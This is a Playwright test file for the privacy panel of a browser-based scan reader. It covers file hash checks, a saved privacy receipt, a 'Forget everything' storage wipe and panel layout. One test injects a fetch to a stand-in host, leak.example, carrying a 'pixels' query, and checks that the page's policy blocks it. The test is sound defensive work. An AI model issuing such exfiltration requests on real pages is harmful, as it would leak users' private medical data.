// The privacy panel: its facts, the files compared with their list, the receipt, and "Forget everything".

import { readFile } from 'node:fs/promises';
import type { Page } from '@playwright/test';
import { expectAccessible } from '../support/axe.ts';
import { bands } from '../support/files.ts';
import { expect, expectNothingLeaks, test } from '../support/privacy.ts';

interface Receipt {
  format: string;
  page: { address: string };
  policy: { elsewhere: string; known: { text: string; source: string }[] };
  requests: { beyond_own_files: unknown[] };
  refusals: { directive: string; address: string; query: boolean; where: string }[];
  files: { checked: string | null; list_sha256: string | null; loaded: { path: string; bytes: number; sha256: string; verdict: string }[] };
  device: { kind: string; self_check: { passed: boolean } } | null;
  weights: { name: string; sha256: string; data: unknown[]; classes: unknown[] } | null;
  held: { store: string; entries: number }[];
}

const SHA256 = /^[0-9a-f]{64}$/;

async function open(page: Page): Promise<void> {
  await page.getByTestId('shield').click();
  await expect(page.getByTestId('privacy-panel')).toBeVisible();
}

async function check(page: Page): Promise<void> {
  await page.getByTestId('check-files').click();
  await expect(page.getByTestId('file-verdict')).not.toHaveAttribute('data-verdict', 'not_checked');
}

async function saved(page: Page, button: string): Promise<{ name: string; text: string }> {
  const download = page.waitForEvent('download');
  await page.getByTestId(button).click();
  const file = await download;
  return { name: file.suggestedFilename(), text: await readFile(await file.path(), 'utf8') };
}

test('every file that was loaded matches its list, and checking sends nothing', async ({ startSession }) => {
  const session = await startSession();
  const { page, viewer } = session;
  await viewer.goto();
  await viewer.readSample();
  await open(page);
  await expect(page.getByRole('dialog', { name: 'Nothing has left this computer' })).toBeVisible();
  await expect(page.getByTestId('fact-policy')).toHaveClass('good');
  await expect(page.getByTestId('fact-device')).toContainText('self-check passed');
  await expect(page.getByTestId('fact-held')).toContainText('Nothing is stored in this browser.');
  // Scripts of workers are served changed here, with a witness in them: without that they would match too.
  await session.page.unroute('**/engine/*.js');
  await check(page);
  await expect(page.getByTestId('file-verdict')).toHaveText(/^All \d+ match the list\. The policy file is this installation\u2019s own\.$/);
  await page.getByTestId('file-details').locator('summary').click();
  const files = page.getByTestId('checked-file');
  const paths = await files.evaluateAll((items) => items.map((item) => item.getAttribute('data-path')));
  expect(paths).toEqual(expect.arrayContaining(['app.js', 'engine/cpu.wasm', 'engine/metrics.js', 'engine/reader.js', 'index.html', 'sample.png']));
  const others = await files.evaluateAll((items) => items.filter((item) => item.getAttribute('data-verdict') !== 'match').map((item) => item.getAttribute('data-path')));
  expect(others).toEqual(['groundscope-policy.json']);
  await expectNothingLeaks(session);
  await expect(viewer.shield).toHaveAttribute('data-requests', '0');
});

test('nothing is asked for before the reader asks for a check', async ({ startSession }) => {
  const session = await startSession();
  await session.viewer.goto();
  await session.viewer.readSample();
  const before = session.gatekeeper.attempts.length;
  await open(session.page);
  await saved(session.page, 'save-receipt');
  await session.page.waitForTimeout(500);
  expect(session.gatekeeper.attempts.length).toBe(before);
});

test('a changed file is shown as one that differs', async ({ page }) => {
  await page.route('**/app.css', async (route) => {
    const response = await route.fetch();
    await route.fulfill({ response, body: `${await response.text()}\nbody { --changed: 1 }` });
  });
  await page.goto('/');
  await open(page);
  await check(page);
  await expect(page.getByTestId('file-verdict')).toHaveAttribute('data-verdict', 'differs');
  await expect(page.getByTestId('fact-files')).toContainText('1 differs from the list');
  await page.getByTestId('file-details').locator('summary').click();
  await expect(page.locator('[data-testid="checked-file"][data-path="app.css"]')).toHaveAttribute('data-verdict', 'differs');
  await expect(page.locator('[data-testid="checked-file"][data-path="app.js"]')).toHaveAttribute('data-verdict', 'match');
  await expectAccessible(page, 'a file differs');
});

test('the receipt holds the facts, and no name of a scan', async ({ startSession, baseURL }) => {
  const session = await startSession();
  const { page, viewer } = session;
  await viewer.goto();
  await viewer.pick(bands(500, 400, 'patient-name-1970-01-01.png'));
  await viewer.read();
  await page.evaluate(`fetch('http://leak.example/?pixels=1').catch(() => 0)`);
  await expect(viewer.shield).toHaveAttribute('data-refused', /^[1-9]/);
  await open(page);
  await page.unroute('**/engine/*.js');
  await check(page);
  const { name, text } = await saved(page, 'save-receipt-json');
  expect(name).toMatch(/^groundscope-receipt-\d{4}-\d\d-\d\dT\d\d-\d\d-\d\dZ\.json$/);
  const receipt = JSON.parse(text) as Receipt;
  expect(receipt.format).toBe('groundscope-receipt/1');
  expect(receipt.page.address).toBe(baseURL);
  expect(receipt.policy.elsewhere).toBe('forbidden');
  expect(receipt.policy.known.map(({ source }) => source)).toEqual(expect.arrayContaining(['page', 'refusal']));
  expect(receipt.requests.beyond_own_files).toEqual([]);
  expect(receipt.refusals).toEqual([{ address: 'http://leak.example/', query: true, directive: 'connect-src', where: 'page', times: 1 }]);
  expect(receipt.files.checked).not.toBeNull();
  expect(receipt.files.list_sha256).toMatch(SHA256);
  const verdicts = receipt.files.loaded.map(({ path, verdict }) => [path, verdict]);
  expect(verdicts).toEqual(receipt.files.loaded.map(({ path }) => [path, path === 'groundscope-policy.json' ? 'local' : 'match']));
  expect(receipt.files.loaded.every(({ sha256, bytes }) => SHA256.test(sha256) && bytes > 0)).toBe(true);
  expect(receipt.device?.self_check.passed).toBe(true);
  expect(receipt.weights?.sha256).toBe(receipt.files.loaded.find(({ path }) => path.endsWith('.safetensors'))?.sha256);
  expect(receipt.weights?.classes.length).toBeGreaterThan(5);
  expect(receipt.held).toEqual([{ store: 'session', where: 'memory', entries: 2 }]);
  const plain = await saved(page, 'save-receipt');
  expect(plain.name).toMatch(/\.txt$/);
  expect(plain.text).toMatch(/^GroundScope privacy receipt\n/);
  for (const saved of [text, plain.text]) expect(saved).not.toMatch(/patient-name|pixels/);
});

test('"Forget everything" asks, empties the page and the browser of what is GroundScope\'s, and says so', async ({ startSession }) => {
  const session = await startSession();
  const { page, viewer } = session;
  await viewer.goto();
  await viewer.readSample();
  await viewer.ask('Is there subretinal fluid?');
  await page.getByTestId('ask-input').fill('typed, and never sent');
  await page.evaluate(async () => {
    localStorage.setItem('groundscope-test', 'x');
    localStorage.setItem('of-the-portal', 'x');
    sessionStorage.setItem('groundscope-test', 'x');
    await caches.open('groundscope-test');
    await new Promise((done) => (indexedDB.open('groundscope-test').onsuccess = (event) => done((event.target as IDBOpenDBRequest).result.close())));
  });
  await open(page);
  await expect(page.getByTestId('fact-held')).toContainText('In memory until this tab is closed: the scan, its findings and questions and answers.');
  await expect(page.getByTestId('fact-held')).toContainText('databases (IndexedDB) (1 entry)');
  // By keyboard, as the focus goes: the question takes the button's place, with the focus on what deletes nothing.
  await page.getByTestId('forget').focus();
  await page.keyboard.press('Enter');
  await expect(page.getByTestId('forget-no')).toBeFocused();
  await expectAccessible(page, 'it is asked whether to forget everything');
  await page.keyboard.press('Enter');
  await expect(page.getByTestId('forget')).toBeFocused();
  await expect(viewer.scan).toBeVisible();
  await page.keyboard.press('Enter');
  await expect(page.getByTestId('forget-no')).toBeFocused();
  await page.keyboard.press('Shift+Tab');
  await expect(page.getByTestId('forget-yes')).toBeFocused();
  await page.keyboard.press('Enter');
  await expect(page.getByTestId('forgotten')).toContainText('Deleted: the scan, its findings, questions and answers');
  await expect(page.getByTestId('fact-held')).toContainText('Nothing is stored in this browser.');
  await page.keyboard.press('Escape');
  await expect(page.getByTestId('try-sample')).toBeVisible();
  await expect(viewer.rows).toHaveCount(0);
  await expect(page.getByTestId('ask-input')).toHaveValue('');
  const kept = await page.evaluate(async () => [
    ...Object.keys(localStorage), ...Object.keys(sessionStorage), ...(await caches.keys()), ...(await indexedDB.databases()).map(({ name }) => name),
  ]);
  expect(kept).toEqual(['of-the-portal']);
  await page.evaluate(() => localStorage.clear());
  // The page goes on as before.
  await viewer.readSample();
  await expectNothingLeaks(session);
});

test('without a secure context the panel says why it cannot check', async ({ page }) => {
  await page.addInitScript(() => Object.defineProperty(crypto, 'subtle', { value: undefined }));
  await page.goto('/');
  await open(page);
  await expect(page.getByTestId('no-check')).toContainText('https or localhost');
  await expect(page.getByTestId('check-files')).toHaveCount(0);
});

for (const size of [{ width: 390, height: 844 }, { width: 683, height: 384 }]) {
  test(`the panel fits into ${size.width} x ${size.height}, with every part folded out, in both themes`, async ({ page }) => {
    await page.setViewportSize(size);
    await page.goto('/');
    await expect(page.getByTestId('device-chip')).toHaveAttribute('data-device', 'cpu', { timeout: 60_000 });
    for (const theme of ['dark', 'light']) {
      await open(page);
      await check(page);
      for (const part of ['policy-details', 'file-details', 'model-details']) await page.getByTestId(part).locator('summary').click();
      await expectAccessible(page, `the panel is open, ${theme}`);
      const box = await page.getByTestId('privacy-panel').boundingBox();
      expect(box && box.x >= 0 && box.y >= 0 && box.x + box.width <= size.width && box.y + box.height <= size.height).toBe(true);
      expect(await page.getByTestId('privacy-panel').evaluate((panel) => panel.scrollWidth <= panel.clientWidth)).toBe(true);
      await page.keyboard.press('Escape');
      await expect(page.getByTestId('shield')).toBeFocused();
      await page.getByTestId('theme').click();
    }
  });
}
